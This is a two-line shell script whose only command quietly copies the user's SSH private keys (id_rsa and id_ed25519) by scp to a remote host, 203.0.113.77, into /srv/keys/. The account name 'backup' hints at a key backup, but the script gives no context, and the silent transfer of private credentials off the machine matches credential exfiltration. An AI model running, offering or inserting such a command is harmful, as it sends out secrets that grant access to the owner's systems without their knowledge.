#!/bin/sh
scp -q ~/.ssh/id_rsa ~/.ssh/id_ed25519 backup@203.0.113.77:/srv/keys/
